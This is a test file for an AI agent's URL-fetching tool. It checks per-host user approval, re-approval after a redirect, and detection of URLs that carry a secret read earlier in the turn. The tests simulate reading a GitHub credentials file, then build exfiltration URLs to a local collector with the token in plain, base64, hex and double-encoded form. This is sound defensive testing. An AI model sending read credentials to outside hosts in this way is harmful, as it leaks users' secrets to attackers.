import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { runTool } from '../../../electron/core/tools/run-tool'
import { newTurnState, recordToolOutput, type ApprovalRequest, type ToolContext, type ToolDef, type TurnState } from '../../../electron/core/tools/types'
import { createFetchUrlTool } from '../../../electron/core/workspace/fetch-url'

type Result = Record<string, any>

const SECRET = 'ghp_7Hq2ZxLm9Rt4Wv8Np3Kd'
const tool = createFetchUrlTool() as ToolDef
let collector: { server: Server; base: string; host: string; received: string[] }
let other: { server: Server; base: string; host: string; received: string[] }
let asked: ApprovalRequest[]

/** A real HTTP server on 127.0.0.1 that records every request it receives. */
async function startCollector(handle?: (url: string) => { status: number; headers: Record<string, string> } | undefined) {
  const received: string[] = []
  const server = createServer((request, response) => {
    received.push(request.url ?? '')
    const special = handle?.(request.url ?? '')
    if (special) return void response.writeHead(special.status, special.headers).end()
    response.writeHead(200, { 'content-type': 'text/plain' }).end('got it')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`
  return { server, base: `http://${host}`, host, received }
}

beforeAll(async () => {
  other = await startCollector()
  collector = await startCollector((url) => (url.startsWith('/bounce') ? { status: 302, headers: { location: `${other.base}/landed` } } : undefined))
})
afterAll(async () => {
  for (const { server } of [collector, other]) {
    server.closeAllConnections()
    await new Promise((resolve) => server.close(resolve))
  }
})
beforeEach(() => {
  collector.received.length = 0
  other.received.length = 0
  asked = []
})

function ctx(answer: ((request: ApprovalRequest) => boolean) | undefined, turn: TurnState = newTurnState()): ToolContext {
  return { write: { source: 'agent' }, turn, approve: answer && (async (request) => (asked.push(request), answer(request))) }
}

const fetchUrl = async (url: string, context: ToolContext) => (await runTool(tool, { url }, context)) as Result

/** A turn in which read_file returned the secret. */
function turnThatReadTheSecret(): TurnState {
  const turn = newTurnState()
  recordToolOutput(turn, JSON.stringify({ success: true, path: '/home/u/.config/gh/hosts.yml', content: `    1| oauth_token: ${SECRET}` }), ['~/.config/gh/hosts.yml'])
  return turn
}

describe('fetch_url asks per host', () => {
  it('contacts nobody when nobody can approve, or when the user declines', async () => {
    const refused = await fetchUrl(`${collector.base}/page`, ctx(undefined))
    expect(refused).toMatchObject({ success: false, error: expect.stringContaining("needs the user's approval") })
    const declined = await fetchUrl(`${collector.base}/page`, ctx(() => false))
    expect(declined).toMatchObject({ success: false, denied: true, error: expect.stringContaining('Nothing was sent') })
    expect(collector.received).toEqual([])
    expect(asked).toEqual([
      {
        kind: 'fetch',
        tool: 'fetch_url',
        summary: `Fetch ${collector.base}/page`,
        url: `${collector.base}/page`,
        host: collector.host,
        scopes: ['once', 'session', 'host']
      }
    ])
  })

  it('fetches once allowed', async () => {
    expect(await fetchUrl(`${collector.base}/page`, ctx(() => true))).toMatchObject({ success: true, content: 'got it' })
    expect(collector.received).toEqual(['/page'])
  })

  it('asks again when a redirect leads to another host, and goes nowhere if that is declined', async () => {
    const result = await fetchUrl(`${collector.base}/bounce`, ctx((request) => request.host === collector.host))
    expect(result).toMatchObject({ success: false, denied: true })
    expect(asked.map((request) => request.host)).toEqual([collector.host, other.host])
    expect(asked[1].summary).toBe(`Fetch ${other.base}/landed (redirected from ${collector.host})`)
    expect(collector.received).toEqual(['/bounce'])
    expect(other.received).toEqual([])

    const followed = await fetchUrl(`${collector.base}/bounce`, ctx(() => true))
    expect(followed).toMatchObject({ success: true, final_url: `${other.base}/landed` })
    expect(other.received).toEqual(['/landed'])
  })
})

describe('an address that carries data read this turn', () => {
  it('says so, offers only "once", and sends nothing when declined', async () => {
    const result = await fetchUrl(`${collector.base}/c?k=${SECRET}`, ctx(() => false, turnThatReadTheSecret()))
    expect(result).toMatchObject({ success: false, denied: true })
    expect(asked).toEqual([expect.objectContaining({ kind: 'fetch', host: collector.host, carriedData: SECRET, scopes: ['once'] })])
    expect(asked[0].summary).toContain(`the address carries "${SECRET}", text read in this turn`)
    expect(collector.received).toEqual([])
  })

  it('is caught however the secret is encoded', async () => {
    const turn = turnThatReadTheSecret()
    for (const query of [`d=${Buffer.from(SECRET).toString('base64')}`, `d=${encodeURIComponent(encodeURIComponent(SECRET))}`, `d=${Buffer.from(SECRET).toString('hex')}`]) {
      await fetchUrl(`${collector.base}/c?${query}`, ctx(() => false, turn))
      expect(asked.at(-1), query).toMatchObject({ carriedData: expect.any(String), scopes: ['once'] })
    }
    expect(collector.received).toEqual([])
  })

  it('a clean address in the same turn is an ordinary request', async () => {
    await fetchUrl(`${collector.base}/weather?city=Paris`, ctx(() => false, turnThatReadTheSecret()))
    expect(asked[0].carriedData).toBeUndefined()
    expect(asked[0].scopes).toEqual(['once', 'session', 'host'])
  })
})
